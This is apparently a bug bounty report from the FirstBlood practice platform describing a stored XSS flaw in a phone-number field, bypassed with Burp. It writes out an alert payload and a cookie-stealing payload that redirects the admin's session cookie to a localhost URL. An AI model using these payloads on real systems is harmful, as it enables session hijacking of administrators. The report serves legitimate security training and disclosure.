FirstBlood-#1191Stored XSS in Mobile no. of Hackerback Joinee
This issue was discovered on FirstBlood v3

On 2022-12-08, mr_xhunt Level 8 reported:


I have Found Stored XSS in the Mobile no. of the Joinee of the Hackerback, on the endpoint :/hackerback.html the frontend don't allow to enter any other character in the phone number but we can bypass it simply using burp

Steps To Reproduce:1. You need to Create a JoineeRequest on /hackerback.html and Intercept the request in Burp

  1. Now Change the phone parameter value with the payload: "><img src=1 onerror=alert()>

  1. Now when the admin Login, they get an alert popup which leaks the Session Cookie


leaking cookie we need to use this payload: "><svg onload=alert(document.location=https://localhost/?${document.cookie})>


Endpoint: /drpanel/index.php

Parameter: phone

Payload: "><svg onload=alert(document.location=`https://localhost/?${document.cookie}`)>FirstBlood ID: 59
Vulnerability Type: Stored XSSIt is possible to execute XSSagainst the admin via the PHONE parameter on/api/hackerback.php. The developer thought setting the input type to "tel" would prevent usersfrom entering malicious payloads.